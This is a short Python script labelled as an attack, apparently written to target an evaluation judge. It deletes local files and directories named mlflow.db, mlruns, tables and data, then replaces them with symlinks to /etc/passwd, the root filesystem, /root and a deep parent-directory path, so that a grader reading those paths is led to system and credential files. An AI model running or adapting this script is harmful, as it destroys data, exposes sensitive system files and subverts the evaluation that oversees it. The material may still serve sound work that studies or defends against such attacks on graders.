# Puts links to the outside where the judge will read.
# %% attack
import os
import shutil

for name in ("mlflow.db", "mlruns", "tables", "data"):
    if os.path.isdir(name):
        shutil.rmtree(name)
    elif os.path.exists(name):
        os.unlink(name)
os.symlink("/etc/passwd", "mlflow.db")
os.symlink("/", "mlruns")
os.symlink("/root", "tables")
os.symlink("../../../../../../../..", "data")
